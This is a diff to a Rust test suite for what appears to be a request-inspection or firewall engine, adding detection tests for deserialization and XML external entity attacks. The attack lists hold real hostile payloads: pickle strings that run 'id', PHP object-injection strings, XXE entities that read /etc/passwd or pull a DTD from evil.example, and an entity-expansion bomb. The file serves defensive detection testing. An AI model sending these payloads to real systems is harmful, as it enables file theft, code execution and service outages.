@@ -117,7 +117,14 @@ const ATTACKS: &[&str] = &[
     "aced0005737200176a6176612e7574696c2e5072696f72697479",
     "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
     "O:24:\"Illuminate\\Broadcasting\\X\":2:{s:6:\"events\";}",
-    "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
+    "a:1:{i:0;O:8:\"stdClass\":0:{}}",
+    "a:2:{s:4:\"user\";O:4:\"User\":1:{s:5:\"admin\";b:1;}s:1:\"x\";i:1;}",
+    "O:+8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
+    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
+    // XML entities in any value (XML bodies: `xxe.rs`).
+    "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+    "<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">",
+    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
     "gASVLAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
     "cos\nsystem\n(S'id'\ntR.",
     "cposix\\nsystem\\n(S'id'\\ntR.",
@@ -174,7 +181,79 @@ const BENIGN: &[&str] = &[
     "50% off <%",
     "file://server/share",
     "the __init__ method",
+    // PHP serialized arrays and scalars construct nothing.
+    "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
+    "a:2:{i:0;i:1794719;i:1;i:1794721;}",
+    "a:1:{i:0;i:1794721;}",
+    "a:2:{s:4:\"view\";s:4:\"grid\";s:5:\"items\";i:24;}",
+    "i:5;",
+    "s:5:\"hello\";",
+    // Doctypes without entities; prose about them.
+    "<!DOCTYPE html>",
+    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
+    "use <!ENTITY to declare an entity",
+    // Template-like shapes in random tokens with punctuation: bodies that do not parse.
+    "2;0;3687984;4277301;4,27;g7dE&vsiVL0t*{w7z~3N$4MXB=VI3*3P?7=?P=`wR4!O}Id&A",
+    "x@(;qr}l}4ASo4dGW.3e^b5!C2dxe`J r5y~2-RmqL`:t^t)y",
+    "#{@hHhKpF[-,?~]p|T`v`8AQzG(S;j?m@DX?#/M+WI!}",
 ];
+
+/// Long random tokens with punctuation (sensor data, session blobs), seeded: none forms a
+/// template expression, an object or a wrapper.
+#[test]
+fn random_tokens_pass() {
+    let d = detector();
+    for seed in [7, 8, 9, 10] {
+        let mut r = crate::check::lookalikes::Rng::new(seed);
+        let alphabet = b" !#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_`abcdefghijklmnopqrstuvwxyz{|}~";
+        let fired: Vec<_> = (0..1_500)
+            .map(|_| {
+                let n = 200 + r.below(4_000);
+                r.token(alphabet, n)
+            })
+            .filter_map(|t| {
+                d.detect(&t)
+                    .map(|rule| (rule, d.rules.template_match(&t), t))
+            })
+            .collect();
+        assert!(fired.is_empty(), "{:?}", fired.first());
+    }
+}
+
+#[test]
+fn xxe_in_xml_bodies_is_found() {
+    let mut c = Config::default();
+    for id in CheckId::configurable() {
+        c.security_checks.set(id, Level::Off);
+    }
+    c.security_checks.set(CheckId::CodeInjection, Level::Block);
+    let engine = Engine::new(c).unwrap();
+    let run = |ct: &'static str, body: &'static str| {
+        let mut headers = Headers::new();
+        headers.push("content-type", ct.as_bytes());
+        let v = engine.inspect_request(&Request {
+            method: "POST",
+            path: "/soap",
+            headers,
+            body: body.as_bytes(),
+            ..Request::default()
+        });
+        v.findings.first().map(|f| (f.location, f.engine))
+    };
+    for body in [
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
+        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>",
+    ] {
+        assert_eq!(
+            run("application/xml", body),
+            Some(("body", Some("xxe"))),
+            "{body}"
+        );
+    }
+    assert_eq!(run("application/xml", "<!DOCTYPE r><r>1</r>"), None);
+    assert_eq!(run("text/xml", "<r><a>1</a></r>"), None);
+}
 
 #[test]
 fn attacks_fire() {
